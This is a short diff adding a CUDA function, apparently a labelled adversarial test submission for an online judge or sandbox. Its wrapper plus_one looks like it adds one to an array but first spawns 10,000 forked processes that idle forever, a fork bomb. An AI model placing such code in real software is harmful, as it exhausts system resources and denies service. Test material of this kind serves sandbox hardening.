@@ -1,0 +1,12 @@
+// AC/RTE/TLE* | 40 | a fork bomb | 
+#include <unistd.h>
+__global__ void k(int *out, const int *in, int n) {
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i < n) out[i] = in[i] + 1;
+}
+extern "C" void plus_one(int *out, const int *in, int n) {
+    for (int i = 0; i < 10000; i++)
+        if (fork() == 0)
+            for (;;) pause();
+    if (n) k<<<(n + 255) / 256, 256>>>(out, in, n);
+}
